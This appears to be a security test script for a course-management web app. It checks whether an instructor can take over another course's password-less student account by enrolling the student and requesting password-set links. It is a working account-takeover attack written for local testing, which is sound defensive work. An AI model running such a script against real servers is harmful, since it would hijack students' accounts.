"""Attack: an instructor takes over an account of another course that has no password yet.

    ATTACK_PASSWORD=… python -m tests.hostile.accounts.account_takeover http://127.0.0.1:8080 \
        --instructor NAME --course 2 --victim STUDENT_ID

Signs in as the instructor NAME, adds the victim to the instructor's own course by the id, and asks for a
link to set the victim's password in each way there is: for one person, for chosen people, for all without a
password. Sends at most eleven requests. Exit status 0: no link was given; 1: the account can be taken over;
2: the attack could not be tried.
The victim stays in the course as a student; remove it afterwards.
"""

from __future__ import annotations

import argparse
import os
import re
import sys
from collections.abc import Sequence

import requests

WAIT_S = 10.0


class NotTried(Exception):
    """The server did not let the attack begin."""


class Instructor:
    """A signed-in browser of the attacking instructor."""

    def __init__(self, base: str, name: str, password: str) -> None:
        self.base, self.http = base.rstrip("/"), requests.Session()
        answer = self.post("/sign-in", "/sign-in", name=name, password=password)
        if answer.status_code != 303:
            raise NotTried(f"sign-in was answered {answer.status_code}")

    def get(self, path: str) -> requests.Response:
        """A page."""
        return self.http.get(self.base + path, timeout=WAIT_S)

    def post(self, page: str, path: str, **form: str) -> requests.Response:
        """Send a form with the CSRF token that `page` carries."""
        token = re.search(r'name="csrf_token" value="([^"]+)"', self.get(page).text)
        if token is None:
            raise NotTried(f"{page} has no form")
        data = {"csrf_token": token[1], **form}
        return self.http.post(self.base + path, data=data, timeout=WAIT_S, allow_redirects=False)


def attack(base: str, name: str, password: str, course: int, victim: str) -> list[str]:
    """Try all ways; those that gave a link. Raises NotTried."""
    instructor, people = Instructor(base, name, password), f"/courses/{course}/people"
    added = instructor.post(people, f"{people}/add", id=victim)
    listed = instructor.get(f"{people}?q={victim}").text
    number = re.search(rf'href="{people}/(\d+)"', listed)
    if number is None:
        if added.status_code == 422:
            return []  # the server does not even add the account
        raise NotTried(f"adding '{victim}' was answered {added.status_code}")
    ways = {
        "one person": (f"{people}/{number[1]}/link", {}),
        "chosen people": (f"{people}/invite", {"user": number[1]}),
        "all without a password": (f"{people}/invite", {"all": "1"}),
    }
    given = []
    for way, (path, form) in ways.items():
        answer = instructor.post(people, path, **form)
        lines = answer.text.splitlines() if path.endswith("/link") else _of(victim, answer.text)
        if any("/reset/" in line for line in lines):
            given.append(way)
    return given


def _of(victim: str, table: str) -> list[str]:
    return [line for line in table.splitlines() if victim in line]


def main(arguments: Sequence[str] | None = None) -> int:
    """The command."""
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("base", help="address of the server")
    parser.add_argument("--instructor", required=True, help="sign-in name; the password is ATTACK_PASSWORD")
    parser.add_argument("--course", required=True, type=int, help="number of a course of the instructor")
    parser.add_argument("--victim", required=True, help="id of a student of another course")
    given = parser.parse_args(arguments)
    password = os.environ.get("ATTACK_PASSWORD", "")
    try:
        ways = attack(given.base, given.instructor, password, given.course, given.victim)
    except (NotTried, requests.RequestException) as error:
        print(f"not tried: {error}")
        return 2
    print(f"links were given for: {', '.join(ways)}" if ways else "no link was given")
    return 1 if ways else 0


if __name__ == "__main__":
    sys.exit(main())
